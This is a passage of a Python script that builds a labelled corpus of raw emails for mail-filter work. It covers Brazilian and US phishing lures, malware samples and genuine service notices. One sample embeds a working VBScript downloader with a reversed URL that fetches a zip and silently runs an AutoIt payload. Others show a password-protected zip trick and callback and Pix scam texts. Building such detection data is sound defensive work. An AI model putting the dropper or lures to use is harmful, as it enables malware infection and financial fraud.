    mail(n, "phishing", "Fake 'Pix received, confirm within 2 hours' pushed as a genuine Google Calendar invitation (DKIM google.com, SPF pass for calendar-server.bounces.google.com); the lure and link sit in the event description.",
         prov="gmail", rcpt=R_GM1, t=t, tz=UTC,
         frm=addr("Comprovante Pix", org), reply_to=org,
         subj=f"Convite: Você recebeu um PIX de R$ 1.870,00 - Confirme o recebimento @ ter. 17 de set. de 2024 10:00 - 10:30 (BRT) ({R_GM1})",
         body=body, mf=f"3{alnum(n + 'env', 30)}@calendar-server.bounces.google.com", ip="209.85.220.73", helo="mail-sor-f73.google.com",
         dkim=[("google.com", "20230601", "pass")], dmarc=("pass", "NONE"),
         mid=f"<calendar-{uuid(n + 'cal')}@google.com>", order=["Reply-To", "Message-ID", "Date", "Subject", "From", "To"],
         pre=["Sender: Google Agenda <calendar-notification@google.com>"],
         extra=["Auto-Submitted: auto-generated"])

    # 47 --------------------------------------------------------------- PayPal genuine invoice abused for callback
    n = "paypal-invoice-callback-genuine"
    t = when(2023, 8, 22, 17, 48, 13)
    phone = "+1 (888) 614-3307"
    inv = f"INV2-{alnum(n, 4, True)}-{alnum(n + 'b', 4, True)}-{alnum(n + 'c', 4, True)}-{alnum(n + 'd', 4, True)}"
    url = f"https://www.paypal.com/invoice/p/#{inv}"
    note = (f"Your PayPal account has been charged $699.99 for Bitcoin purchase (BTC 0.0264). Transaction ID: 8KT40617XJ3392045. "
            f"If you did not authorize this transaction, call PayPal Billing Support immediately at {phone} to cancel and receive a refund. "
            "Do not pay this invoice.")
    html = html_doc(card(
        row('<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal">', "24px 32px 0")
        + row('<p style="font-size:22px">Geek Tech Support LLC sent you an invoice for $699.99 USD</p>'
              f'<p><b>Invoice details</b><br>Amount requested: $699.99 USD<br>Invoice number: 0047<br>Due date: Aug 22, 2023</p>'
              f'<p><b>Note from seller</b><br>{note}</p>')
        + row(button(url, "View and Pay Invoice", "#003087"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#666">Don\'t recognize this invoice? <a href="https://www.paypal.com/us/smarthelp/contact-us">Report this invoice</a>. '
              'Before paying, make sure you recognize this invoice. If you don\'t, report it.</p>'
              '<p style="font-size:11px;color:#666">PayPal is located at 2211 N. First St., San Jose, CA 95131</p>'
              + pixel(f"https://t.paypal.com/ts?v=1.0&e=invoice_sent&tsrce=invoicing&xt=104038&s=ci&pgrp=main:email&page=main:email:IN0001:::&ppid=IN0001&cnac=US&rsta=en_US&cust={alnum(n + 'cu', 13, True)}"))
        ), lang="en")
    plain = (f"Geek Tech Support LLC sent you an invoice for $699.99 USD\n\nInvoice number: 0047\nDue date: Aug 22, 2023\n\nNote from seller\n{note}\n\n"
             f"View and Pay Invoice: {url}\n\nDon't recognize this invoice? Report it: https://www.paypal.com/us/smarthelp/contact-us\n")
    mail(n, "phishing", "Callback scam delivered as a genuine PayPal invoice from service@paypal.com (SPF/DKIM/DMARC pass): the fraud is in the seller's note with a fake billing-support phone number.",
         prov="outlook", rcpt=R_OUT, t=t, tz=PT,
         frm=addr("PayPal", "service@paypal.com"), subj="Invoice from Geek Tech Support LLC (0047)",
         body=alt(plain, html, f"--=_{hx(n, 24)}"), mf="service@paypal.com", ip="173.0.84.226", helo="mx0.slc.paypal.com", rdns="mx0.slc.paypal.com",
         dkim=[("paypal.com", "pp-dkim1", "pass")], dmarc=("pass", "REJECT"),
         hops=[f"Received: from [10.73.4.23] ([10.73.4.23:42788] helo=ccg13mail03.slc.paypal.com)\n\tby mx0.slc.paypal.com (envelope-from <service@paypal.com>)\n\t(ecelerity 4.3.1.999 r(:)) with ESMTP\n\tid {alnum(n + 'ec', 2, True)}/{alnum(n + 'ec2', 2, True)}-{num(n, 10000, 99999)}-{hx(n + 'ecid', 8).upper()}; {fmt(t - timedelta(seconds=1), PT)}"],
         mid=f"<{hx(n, 13)}.{num(n, 1000, 9999)}@paypal.com>",
         extra=["X-PP-REQUESTED-TIME: " + str(ts(t) * 1000 - 1400), "X-PP-Email-transmission-Id: " + uuid(n + "tx"), "PP-Correlation-Id: " + hx(n + "corr", 13),
                "X-Email-Type-Id: IN0001", "X-XPT-XSL-Name: email_pimp/default/en_US/invoicing/invoice_sent.xsl"])

    # 48 --------------------------------------------------------------- compromised relative's Hotmail, Pix request
    n = "parente-hotmail-comprometido-pix"
    t = when(2025, 4, 3, 13, 18, 52)
    plain = ("Oi Renata, tudo bem?\n\nDesculpa te incomodar por aqui, meu WhatsApp está dando problema desde ontem e não consigo usar.\n\n"
             "Preciso de um favor urgente: tenho que pagar hoje um boleto do conserto do carro e o app do meu banco bloqueou as transferências "
             "(estou esperando o gerente liberar). Você consegue me fazer um Pix de R$ 2.300,00 para a chave do mecânico? Amanhã cedo te devolvo, "
             "sem falta.\n\nChave Pix (CPF): 412.887.036-19\nNome: Wesley R. Batista\n\nMe avisa por aqui quando fizer, por favor. Obrigada de coração!\n\n"
             "Beijos,\nPati\n\nObter o Outlook para Android\n")
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div dir="auto" style="font-family: Aptos, Calibri, Arial, sans-serif; font-size: 12pt;">'
            + plain.replace("\n\nObter o Outlook para Android\n", "").replace("\n", "<br>")
            + '</div><div dir="auto" id="ms-outlook-mobile-signature"><br>Obter o <a href="https://aka.ms/AAb9ysg">Outlook para Android</a></div></body></html>\n')
    mail(n, "phishing", "Compromised genuine Hotmail account of a relative asking for an urgent R$ 2,300 Pix to a third party's key: passes SPF/DKIM/DMARC, no link, classic 'falso parente' social engineering.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Patrícia Azevedo", "patricia.azevedo77@hotmail.com"), subj="Favor urgente",
         body=alt(plain, html, bnd("outlook", n)), mf="patricia.azevedo77@hotmail.com", ip="40.92.42.73",
         helo="BRA01-CP2-obe.outbound.protection.outlook.com", rdns="mail-cp2bra01olkn2073.outbound.protection.outlook.com",
         dkim=[("hotmail.com", "selector1", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from RO2P284MB2410.BRAP284.PROD.OUTLOOK.COM\n ([fe80::91a7:3c1d:4b2e:7f60]) by RO2P284MB2410.BRAP284.PROD.OUTLOOK.COM\n ([fe80::91a7:3c1d:4b2e:7f60%5]) with mapi id 15.20.8632.017; {fmt(t - timedelta(seconds=2))}"],
         mid=f"<RO2P284MB2410{alnum(n, 14, True)}@RO2P284MB2410.BRAP284.PROD.OUTLOOK.COM>",
         extra=["Thread-Topic: Favor urgente", f"Thread-Index: {b64s(n, 22)}==", "Accept-Language: pt-BR, en-US", "Content-Language: pt-BR",
                "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: "])

    # 49 --------------------------------------------------------------- NF-e zip with VBScript (malware)
    n = "nfe-danfe-zip-vbs-dropper"
    t = when(2023, 5, 30, 10, 44, 18)
    vbs = ('On Error Resume Next\r\n'
           "' DANFE - Documento Auxiliar da Nota Fiscal Eletronica\r\n"
           'Dim xA, xB, xC, p\r\n'
           'p = StrReverse("piz.2p/sotnemucod/rb.moc.oicifirapsocosrevni//:sptth")\r\n'
           'Set xA = CreateObject(Replace("MSXXML2.XMLHTTP","XX","X"))\r\n'
           'xA.Open "GET", p, False\r\nxA.Send\r\n'
           'Set xB = CreateObject("ADODB.Stream")\r\nxB.Type = 1\r\nxB.Open\r\nxB.Write xA.ResponseBody\r\n'
           'xB.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%PUBLIC%") & "\\nfe.zip", 2\r\n'
           'Set xC = CreateObject("Shell.Application")\r\n'
           'xC.Namespace(CreateObject("WScript.Shell").ExpandEnvironmentStrings("%PUBLIC%")).CopyHere xC.Namespace(CreateObject("WScript.Shell").ExpandEnvironmentStrings("%PUBLIC%") & "\\nfe.zip").Items\r\n'
           'CreateObject("WScript.Shell").Run Chr(34) & CreateObject("WScript.Shell").ExpandEnvironmentStrings("%PUBLIC%") & "\\nfe\\AutoIt3.exe" & Chr(34) & " nfe.a3x", 0, False\r\n')
    zipb = files.zip_archive([("NFe_000184332_DANFE.vbs", vbs.encode())])
    plain = ("Prezado(a) Cliente,\n\nSegue em anexo o DANFE e o XML referente à Nota Fiscal Eletrônica nº 000.184.332, série 1, emitida em 30/05/2023.\n\n"
             "Valor total da nota: R$ 4.216,70\nVencimento do boleto: 05/06/2023\n\nEm caso de dúvidas, favor entrar em contato com o setor financeiro.\n\n"
             "Atenciosamente,\nDistribuidora Alvorada Ltda\nFinanceiro - (31) 3274-1180\n")
    body = Multi("mixed", bnd("next", n), [text(plain, "plain", "quoted-printable", "utf-8"), att("application/zip", "NFe_000184332.zip", zipb)])
    mail(n, "malware", "Brazilian NF-e/DANFE notice from a compromised distributor mailbox (SPF/DKIM pass) carrying a zip with a VBScript downloader that fetches and runs an AutoIt payload.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("Distribuidora Alvorada - NF-e", "nfe@distribuidoraalvorada.com.br"), subj="NF-e 000.184.332 - Distribuidora Alvorada Ltda",
         body=body, mf="nfe@distribuidoraalvorada.com.br", ip="186.202.4.58", helo="hm2093-11.locaweb.com.br", rdns="hm2093-11.locaweb.com.br",
         dkim=[("distribuidoraalvorada.com.br", "locaweb", "pass")],
         hops=[rx_postfix("unknown", "191.101.31.44", "hm2093-11.locaweb.com.br", t - timedelta(seconds=2), n, R_BOL, SP, "ESMTPA", "nfe@distribuidoraalvorada.com.br")],
         mid=mid_hex(n, "distribuidoraalvorada.com.br", 32), extra=["X-Mailer: Microsoft Outlook 16.0"])

    # 50 --------------------------------------------------------------- password-protected zip with exe (malware)
    n = "comprovante-pix-zip-senha-exe"
    t = when(2024, 11, 5, 17, 22, 31)
    zipb = zip_crypto("Comprovante_Pix_05112024.exe", files.pe_stub(), b"2024", n)
    plain = ("Boa tarde,\n\nConforme combinado, segue o comprovante do Pix referente ao acerto do frete de outubro.\n"
             "Por segurança o arquivo está protegido. Senha: 2024\n\nQualquer divergência nos avise.\n\n"
             "Att,\nJuliana Prado\nFinanceiro - Transportadora Ribeirão\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            '<p>Boa tarde,</p>\n<p>Conforme combinado, segue o comprovante do Pix referente ao acerto do frete de outubro.<br />Por segurança o arquivo está protegido. '
            '<strong>Senha: 2024</strong></p>\n<p>Qualquer divergência nos avise.</p>\n<p>Att,<br />Juliana Prado<br />Financeiro - Transportadora Ribeirão</p>\n</body></html>\n')
    body = Multi("mixed", "=_" + hx(n, 32), [Multi("alternative", "=_" + hx(n + "a", 32), [text(plain), text(html, "html")]),
                                              att("application/zip", "Comprovante_Pix_05112024.zip", zipb)])
    mail(n, "malware", "Fake Pix receipt from a compromised transport company's Roundcube mailbox: password-protected zip (password in the body) hiding a Windows executable from scanners.",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Juliana Prado", "financeiro@transportadoraribeirao.com.br"), subj="Comprovante Pix - acerto frete outubro",
         body=body, mf="financeiro@transportadoraribeirao.com.br", ip="191.6.210.14", helo="mail.transportadoraribeirao.com.br",
         rdns="mail.transportadoraribeirao.com.br", dkim=[("transportadoraribeirao.com.br", "mail", "pass")],
         hops=[rx_postfix("webmail.transportadoraribeirao.com.br", "127.0.0.1", "mail.transportadoraribeirao.com.br", t - timedelta(seconds=1), n, R_TER, SP, "ESMTPSA", "financeiro@transportadoraribeirao.com.br")],
         mid=f"<{hx(n, 32)}@transportadoraribeirao.com.br>", extra=["User-Agent: Roundcube Webmail/1.5.3", "X-Sender: financeiro@transportadoraribeirao.com.br"])


# =========================================================================== legitimate

def sfmc(n, host, tok):
    return f"https://{host}/?qs={hx(n + tok, 96)}"


def legit():
    # L1 --------------------------------------------------------------- Netflix new device PT
    n = "netflix-novo-dispositivo"
    t = when(2024, 6, 8, 23, 12, 40)
    g = f"g={uuid(n)}&lkid=URL_MANAGE_DEVICES&lnktrk=EVO"
    html = html_doc(card(
        row('<img src="https://assets.nflxext.com/us/email/gem/nflx.png" width="24" alt="Netflix">', "28px 40px 0")
        + row('<h1 style="font-size:30px;margin:0">Novo acesso à sua conta</h1>'
              '<p>Alguém fez login na sua conta Netflix em um novo dispositivo:</p>'
              '<table style="background:#f5f5f1;width:100%"><tr><td style="padding:14px">Dispositivo: Smart TV Samsung<br>Local: São Paulo, SP, Brasil<br>'
              'Horário: 8 de junho de 2024, 20:11 BRT</td></tr></table>'
              '<p>Se foi você ou alguém da sua residência, não é necessário fazer nada.</p>'
              '<p>Se não foi você, recomendamos alterar sua senha e sair de todos os dispositivos.</p>')
        + row(button(f"https://www.netflix.com/ManageDevices?{g}", "Gerenciar acesso e dispositivos", "#e50914"), "6px 40px 24px")
        + row(f'<p style="font-size:11px;color:#a9a6a6">Esta mensagem foi enviada para [{R_GM1}] como parte da sua assinatura Netflix.<br>'
              f'<a href="https://help.netflix.com/legal/privacy?{g.replace("URL_MANAGE_DEVICES", "URL_PRIVACY")}" style="color:#a9a6a6">Privacidade</a> · '
              f'<a href="https://help.netflix.com/?{g.replace("URL_MANAGE_DEVICES", "URL_HELP")}" style="color:#a9a6a6">Central de Ajuda</a><br>Netflix Entretenimento Brasil Ltda.</p>'
              + pixel(f"https://beaconimages.netflix.net/img/BAAAAA{b64s(n + 'bi', 80).replace('/', '-')}.gif"), "8px 40px 28px")))
    plain = ("Novo acesso à sua conta\n\nAlguém fez login na sua conta Netflix em um novo dispositivo:\nDispositivo: Smart TV Samsung\n"
             "Local: São Paulo, SP, Brasil\nHorário: 8 de junho de 2024, 20:11 BRT\n\nSe foi você ou alguém da sua residência, não é necessário fazer nada.\n\n"
             f"Gerenciar acesso e dispositivos: https://www.netflix.com/ManageDevices?{g}\n")
    mail(n, "bulk", "Genuine Netflix new-device sign-in notice from account.netflix.com (DKIM aligned, DMARC p=reject pass) with netflix.com links and Netflix beacon.",
         prov="gmail", rcpt=R_GM1, t=t, tz=UTC,
         frm=addr("Netflix", "info@account.netflix.com"), subj="Novo acesso à sua conta Netflix",
         body=alt(plain, html, f"----=_Part_{num(n, 10**6, 10**7)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf=f"bounces+{hx(n, 12)}@bounce.account.netflix.com", ip="69.53.224.74", helo="omta-ew1a-14.netflix.com", rdns="omta-ew1a-14.netflix.com",
         dkim=[("account.netflix.com", "s2048", "pass"), ("netflix.com", "s2048", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<{uuid(n + 'm')}@netflix.com>", extra=["X-Netflix.templateName: NEW_DEVICE_SIGNIN", f"X-Netflix.msgId: {uuid(n + 'nm')}"])

    # L2 --------------------------------------------------------------- Spotify receipt EN
    n = "spotify-premium-receipt"
    t = when(2023, 11, 14, 8, 3, 22)
    u = "utm_source=spotify&utm_medium=email&utm_campaign=receipt"
    html = html_doc(card(
        row('<img src="https://receipts.spotify.com/images/spotify-logo-green.png" width="120" alt="Spotify">', "28px 32px 0")
        + row('<h2>Your receipt</h2><p>Thanks for your payment. Here\'s your receipt for Spotify Premium.</p>'
              '<table width="100%" style="border-top:1px solid #ddd;border-bottom:1px solid #ddd"><tr><td style="padding:10px 0">Premium Individual<br><small>Nov 14, 2023 - Dec 13, 2023</small></td>'
              '<td align="right">$10.99</td></tr><tr><td style="padding:4px 0">Tax</td><td align="right">$0.91</td></tr><tr><td><b>Total</b></td><td align="right"><b>$11.90</b></td></tr></table>'
              '<p>Order ID: 1847203931<br>Payment method: Visa ending in 6412</p>'
              f'<p><a href="https://www.spotify.com/us/account/overview/?{u}">Manage your account</a> · <a href="https://support.spotify.com/us/?{u}">Get help</a></p>')
        + row('<p style="font-size:11px;color:#888">Spotify USA Inc., 150 Greenwich Street, 62nd Floor, New York, NY 10007</p>')), lang="en")
    plain = ("Your receipt\n\nPremium Individual (Nov 14, 2023 - Dec 13, 2023)  $10.99\nTax  $0.91\nTotal  $11.90\n\nOrder ID: 1847203931\n"
             f"Payment method: Visa ending in 6412\n\nManage your account: https://www.spotify.com/us/account/overview/?{u}\n")
    mail(n, "bulk", "Genuine Spotify Premium monthly receipt from no-reply@spotify.com through its ESP, aligned DKIM, links only to spotify.com.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("Spotify", "no-reply@spotify.com"), subj="Your Spotify Premium receipt",
         body=alt(plain, html, hx(n, 28)), mf=f"msprvs1=19{num(n, 100, 999)}dlA4{alnum(n, 8)}=bounces-{num(n, 100000, 999999)}@spmailtechnol.com",
         ip="147.253.218.57", helo="mta-218-57.sparkpostmail.com", rdns="mta-218-57.sparkpostmail.com",
         dkim=[("spotify.com", "scph0922", "pass"), ("spmailtechnol.com", "scph0618", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<{alnum(n, 10)}.{num(n, 10, 99)}.{hx(n + 'sp', 8)}@mail.spotify.com>")

    # L3 --------------------------------------------------------------- Amazon shipped
    n = "amazon-order-shipped"
    t = when(2024, 3, 12, 17, 30, 12)
    rtn = f"urn:rtn:msg:{t.strftime('%Y%m%d%H%M')}{hx(n, 30)}p0na"
    def amz(u):
        return f"https://www.amazon.com/gp/f.html?C={alnum(n + u, 13, True)}&K={alnum(n + 'k', 13, True)}&M={rtn}&R={alnum(n + 'r' + u, 13, True)}&T=C&U={u}&H={alnum(n + 'h' + u, 30, True)}&ref_=pe_123456780_{num(n + u, 100000000, 999999999)}"
    track = amz("https%3A%2F%2Fwww.amazon.com%2Fprogress-tracker%2Fpackage%3FitemId%3Djnllkqqmrqvvno%26orderId%3D113-5837201-4470612%26shipmentId%3DGh3kW1tXp")
    html = html_doc(card(
        row('<img src="https://m.media-amazon.com/images/G/01/outbound/OutboundTemplates/Amazon_logo_US._BG255,255,255_.png" width="110" alt="amazon">', "18px 24px 0")
        + row('<p style="font-size:20px">Shipped: "Keurig K-Mini Single Serve..."</p><p>Hi Debbie, your package is on the way and will arrive <b>Thursday, March 14</b>.</p>')
        + row(button(track, "Track package", "#ffd814", "#0f1111"), "4px 24px 18px")
        + row('<p>Order # 113-5837201-4470612<br>Keurig K-Mini Single Serve Coffee Maker, Black<br>Quantity: 1</p>'
              f'<p><a href="{amz("https%3A%2F%2Fwww.amazon.com%2Fgp%2Fcss%2Forder-history")}">View or manage order</a></p>')
        + row('<p style="font-size:11px;color:#666">©2024 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. '
              'Amazon.com, 410 Terry Avenue N., Seattle, WA 98109-5210.</p>' + pixel(f"https://www.amazon.com/gp/r.html?C={alnum(n + 'px', 13, True)}&M={rtn}&R={alnum(n + 'rr', 13, True)}&T=O&U=https%3A%2F%2Fimages-na.ssl-images-amazon.com%2Fimages%2FG%2F01%2Fnav%2Ftransp.gif")))
        , lang="en")
    plain = (f"Shipped: \"Keurig K-Mini Single Serve...\"\n\nHi Debbie, your package is on the way and will arrive Thursday, March 14.\n\nTrack package: {track}\n\n"
             "Order # 113-5837201-4470612\n")
    mail(n, "bulk", "Genuine Amazon.com shipment notification from shipment-tracking@amazon.com via SES (DKIM amazon.com, DMARC pass) with Amazon's own f.html click-tracking redirects.",
         prov="yahoo", rcpt=R_YH, t=t, tz=UTC,
         frm=addr("Amazon.com", "shipment-tracking@amazon.com"), subj='Shipped: "Keurig K-Mini Single Serve..."',
         body=alt(plain, html, f"----=_Part_{num(n, 10**6, 10**7)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf=f"{t.strftime('%Y%m%d%H%M%S')}{hx(n, 30)}@bounces.amazon.com", ip="54.240.13.18", helo="a13-18.smtp-out.amazonses.com",
         dkim=[("amazon.com", "rte02paa", "pass"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass")], dmarc=("pass", "QUARANTINE"),
         mid=f"<0100018e{hx(n, 8)}-{uuid(n)}-000000@email.amazonses.com>",
         extra=[f"Feedback-ID: 1.us-east-1.{b64s(n + 'fb', 43)}=:AmazonSES", f"X-AMAZON-MAIL-RELAY-TYPE: notification",
                f"Bounces-to: {t.strftime('%Y%m%d%H%M%S')}{hx(n, 30)}@bounces.amazon.com", "X-AMAZON-RTE-VERSION: 2.0",
                f"X-Original-MessageID: <{rtn}@com.amazon.evereste>", "X-SES-Outgoing: 2024.03.12-54.240.13.18"])

    # L4 --------------------------------------------------------------- Magalu pedido confirmado
    n = "magalu-pedido-aprovado"
    t = when(2023, 11, 24, 14, 55, 8)
    q = "utm_source=email&utm_medium=transacional&utm_campaign=pedido_aprovado"
    html = html_doc(card(
        row('<img src="https://a-static.mlcdn.com.br/email/logo-magalu.png" width="140" alt="Magalu">', "20px 32px 0", "background:#0086ff")
        + row('<h2 style="color:#0086ff">Oba! Seu pagamento foi aprovado</h2><p>Olá, Claudia!</p><p>O pagamento do seu pedido <b>1338472915093</b> foi aprovado '
              'e já estamos separando os produtos.</p>'
              '<table width="100%" style="border:1px solid #eee"><tr><td style="padding:10px">Liquidificador Philco PLQ1400 1200W</td><td align="right">R$ 189,90</td></tr>'
              '<tr><td style="padding:10px">Frete</td><td align="right">Grátis</td></tr><tr><td style="padding:10px"><b>Total (Pix)</b></td><td align="right"><b>R$ 180,40</b></td></tr></table>'
              '<p>Previsão de entrega: até <b>30/11/2023</b></p>')
        + row(button(f"https://www.magazineluiza.com.br/meus-pedidos/1338472915093/?{q}", "Acompanhar pedido", "#0086ff"), "4px 32px 22px")
        + row(f'<p style="font-size:11px;color:#888">Magazine Luiza S/A - CNPJ 47.960.950/0001-21 - Rua Voluntários da Franca, 1465 - Franca/SP. '
              f'<a href="https://especiais.magazineluiza.com.br/seguranca/?{q}">Dicas de segurança</a>: a Magalu não solicita senhas por e-mail.</p>')))
    plain = ("Oba! Seu pagamento foi aprovado\n\nOlá, Claudia!\nO pagamento do seu pedido 1338472915093 foi aprovado.\nLiquidificador Philco PLQ1400 1200W - R$ 189,90\n"
             f"Total (Pix): R$ 180,40\nPrevisão de entrega: até 30/11/2023\n\nAcompanhar pedido: https://www.magazineluiza.com.br/meus-pedidos/1338472915093/?{q}\n")
    mail(n, "bulk", "Genuine Magalu order-approved mail from magazineluiza.com.br (SPF/DKIM/DMARC pass) with a real order, Pix price and links to magazineluiza.com.br.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Magalu", "naoresponda@magazineluiza.com.br"), subj="Pagamento aprovado! Pedido 1338472915093",
         body=alt(plain, html, hx(n, 30)), mf="bounce@transacional.magazineluiza.com.br", ip="18.231.105.42", helo="a105-42.smtp-out.sa-east-1.amazonses.com",
         dkim=[("magazineluiza.com.br", alnum(n + "s", 32).lower(), "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<010301{hx(n, 10)}-{uuid(n)}-000000@sa-east-1.amazonses.com>", extra=[f"Feedback-ID: ::1.sa-east-1.{b64s(n, 43)}=:AmazonSES"])

    # L5 --------------------------------------------------------------- Mercado Livre a caminho
    n = "mercadolivre-pacote-a-caminho"
    t = when(2024, 2, 2, 10, 41, 33)
    link = f"https://www.mercadolivre.com.br/minhas-compras/2000007512398841/detalhe?source=email&c_id=/home/shipping-on-the-way&c_uid={uuid(n)}"
    html = html_doc(card(
        row('<img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/5.21.22/mercadolibre/logo__large_plus.png" width="134" alt="Mercado Livre">', "18px 32px", "background:#ffe600")
        + row('<h2>Seu pacote está a caminho</h2><p>Zeca, o vendedor despachou sua compra <b>Fone de Ouvido Bluetooth JBL Tune 520BT</b>.</p>'
              '<p>Chega entre <b>segunda-feira 5</b> e <b>terça-feira 6 de fevereiro</b>.</p><p>Código de rastreio: NL832794015BR</p>')
        + row(button(link, "Ver compra", "#3483fa"), "4px 32px 22px")
        + row('<p style="font-size:11px;color:#999">Este e-mail foi enviado para ' + R_BOL + '. Mercado Livre nunca pede sua senha por e-mail.<br>Ebazar.com.br LTDA. - Av. das Nações Unidas, 3.003, Osasco/SP</p>')))
    plain = (f"Seu pacote está a caminho\n\nZeca, o vendedor despachou sua compra Fone de Ouvido Bluetooth JBL Tune 520BT.\nChega entre 5 e 6 de fevereiro.\n"
             f"Código de rastreio: NL832794015BR\n\nVer compra: {link}\n")
    mail(n, "bulk", "Genuine Mercado Livre shipping notification (aligned DKIM, DMARC pass) with tracking code and links to mercadolivre.com.br.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("Mercado Livre", "info@mercadolivre.com.br"), subj="Seu pacote está a caminho",
         body=alt(plain, html, hx(n, 32)), mf=f"bounce-{hx(n, 16)}@mail.mercadolivre.com.br", ip="52.67.148.201", helo="mail-out-sa2.mercadolivre.com.br",
         dkim=[("mercadolivre.com.br", "mlk1", "pass")], dmarc=("pass", "REJECT"), mid=f"<{uuid(n + 'm')}@mercadolivre.com.br>")

    # L6 --------------------------------------------------------------- Americanas marketing (SFMC)
    n = "americanas-ofertas-newsletter"
    t = when(2024, 11, 27, 12, 0, 41)
    c = "click.news.americanas.com"
    html = html_doc(hidden("até 70% off + cupom BLACK15 no app - só até domingo") + card(
        row(f'<a href="{sfmc(n, c, "h")}"><img src="https://image.news.americanas.com/lib/fe9b12727161057d75/m/1/black-header.jpg" width="600" alt="Black Friday americanas" style="display:block;width:100%"></a>', "0")
        + row('<h2 style="color:#e60014">Black Friday americanas: até 70% off</h2><p>Smartphones, TVs, eletroportáteis e muito mais com frete grátis '
              'para todo o Brasil. E no app tem cupom extra <b>BLACK15</b>.</p>')
        + row(button(sfmc(n, c, "c1"), "aproveitar agora", "#e60014"), "4px 32px 22px")
        + row(f'<p style="font-size:11px;color:#888">Você recebeu este e-mail porque se cadastrou em americanas.com. '
              f'<a href="https://cloud.news.americanas.com/descadastro?qs={hx(n + "u", 64)}" style="color:#888">Descadastre-se</a>.<br>americanas s.a. - CNPJ 00.776.574/0006-60</p>'
              + pixel(f"https://{c}/open.aspx?ffcb10-{hx(n + 'o', 24)}-fe{hx(n + 'o2', 20)}-ff2e1575756d057e7d17-fe9b12727161057d75-{hx(n + 'o3', 14)}-{num(n, 1000, 9999)}"))))
    plain = f"Black Friday americanas: até 70% off\nCupom extra BLACK15 no app.\n\nAproveitar agora: {sfmc(n, c, 'c1')}\n"
    mail(n, "bulk", "Genuine Americanas Black Friday newsletter sent through Salesforce Marketing Cloud on news.americanas.com, click-tracking links, List-Unsubscribe one-click.",
         prov="terra", rcpt=R_TER, t=t, tz=UTC,
         frm=addr("americanas", "americanas@news.americanas.com"), subj="🖤 Black Friday: até 70% off + cupom extra no app",
         body=alt(plain, html, f"----=_Part_{num(n, 10**6, 10**7)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf=f"bounce-{num(n, 100, 999)}_HTML-{num(n + 'a', 10**8, 10**9)}-{num(n + 'b', 10**6, 10**7)}-{num(n + 'c', 10**6, 10**7)}-{num(n + 'd', 1000, 9999)}@bounce.news.americanas.com",
         ip="13.111.27.66", helo="mta5.news.americanas.com", rdns="mta5.news.americanas.com",
         dkim=[("news.americanas.com", "200608", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<{uuid(n + 'm')}@atl1s07mta1140.xt.local>",
         extra=[f"List-Unsubscribe: <https://cloud.news.americanas.com/descadastro?qs={hx(n + 'u', 64)}>, <mailto:leave-{hx(n + 'l', 40)}@leave.news.americanas.com>",
                "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"x-job: 7413512_{num(n, 1000000, 9999999)}", "X-SFMC-Stack: 7"])

    # L7 --------------------------------------------------------------- Nubank fatura fechada
    n = "nubank-fatura-fechou"
    t = when(2024, 8, 26, 9, 14, 2)
    html = html_doc(card(
        row('<img src="https://nubank.com.br/images/email/nu-logo-purple.png" width="60" alt="Nubank">', "28px 32px 0")
        + row('<h2 style="color:#820ad1">Sua fatura fechou</h2><p>Oi, Renata!</p><p>A fatura do seu cartão de crédito fechou no valor de <b>R$ 1.284,37</b>, '
              'com vencimento em <b>02/09</b>.</p><p>Você pode pagar pelo app com saldo da conta, Pix ou boleto, ou parcelar a fatura.</p>'
              '<p style="font-size:12px;color:#666">Lembrete: o Nubank nunca liga, manda SMS ou e-mail pedindo sua senha, código de verificação ou para instalar aplicativos.</p>')
        + row('<p style="font-size:11px;color:#999">Nu Pagamentos S.A. - Instituição de Pagamento. CNPJ 18.236.120/0001-58. Rua Capote Valente, 39 - São Paulo/SP. '
              'Ouvidoria 0800 887 0463.</p>' + pixel(f"https://links.nubank.com.br/o/{hx(n, 40)}"))))
    plain = "Sua fatura fechou\n\nOi, Renata!\nA fatura do seu cartão de crédito fechou no valor de R$ 1.284,37, com vencimento em 02/09.\nPague pelo app.\n"
    mail(n, "bulk", "Genuine Nubank 'your bill closed' notice from todomundo@nubank.com.br: aligned DKIM and DMARC, no link to click besides the footer pixel, points to the app.",
         prov="gmail", rcpt=R_GM1, t=t, tz=UTC,
         frm=addr("Nubank", "todomundo@nubank.com.br"), subj="Renata, sua fatura fechou",
         body=alt(plain, html, hx(n, 30)), mf=f"bounces+{num(n, 10**6, 10**7)}-{hx(n, 4)}-renata.azevedo.sp=gmail.com@em.nubank.com.br",
         ip="168.245.58.209", helo="o2.em.nubank.com.br", rdns="o2.em.nubank.com.br",
         dkim=[("nubank.com.br", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<{alnum(n, 22)}@geopod-ismtpd-9>")

